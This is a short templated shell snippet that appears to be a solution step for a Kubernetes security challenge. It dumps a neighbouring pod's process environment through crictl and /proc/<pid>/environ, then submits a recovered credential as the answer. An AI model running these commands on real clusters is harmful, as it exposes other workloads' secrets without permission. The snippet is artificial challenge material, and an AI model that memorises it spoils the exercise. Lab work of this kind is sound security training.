# earns: none
# The environment of the pod beside it.
kubectl -n {{ team }} rollout status deployment {{ neighbour }} --timeout 120s
pid=$(crictl inspect $(crictl ps --quiet --name {{ neighbour }}) | jq .info.pid)
tr '\0' '\n' < /proc/$pid/environ
cksl answer credential "{{ prefix }}{{ rest }}"
